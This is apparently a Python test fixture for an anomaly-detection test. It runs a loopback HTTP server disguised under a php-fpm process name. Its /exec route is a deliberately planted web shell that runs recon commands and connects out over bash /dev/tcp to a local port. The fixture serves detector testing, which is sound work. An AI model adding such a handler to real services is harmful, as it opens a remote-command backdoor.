"""A service-shaped process for the anomaly end-to-end test: serves files over loopback HTTP.

Run under an interpreter copy named like a real service (php-fpm), so the model sees a network service.
``GET /page`` reads a page and its config (what it always does); ``GET /exec`` is the planted web shell: the
service starts bash, which runs recon commands and connects out to the port given in the query.
"""

from __future__ import annotations

import http.server
import subprocess
import sys
from pathlib import Path

ROOT = Path(sys.argv[2])


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path.startswith("/exec?port="):
            port = int(self.path.split("=", 1)[1])
            payload = "ZWNobyBvd25lZCBieSBzZW50aW5lbC10ZXN0Cg=="  # base64 of a harmless echo
            script = (
                f"id; uname -a; echo {payload} | base64 -d >/dev/null; "
                f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo owned >&3"
            )
            subprocess.run(["/bin/bash", "-c", script], stdout=subprocess.DEVNULL, check=False)
            body = b"done\n"
        else:
            (ROOT / "conf" / "site.ini").read_bytes()
            body = (ROOT / "www" / "index.html").read_bytes()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        with (ROOT / "log" / "access.log").open("a") as log:
            log.write(f"{self.path}\n")


def main() -> None:
    server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler)
    print("ready", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
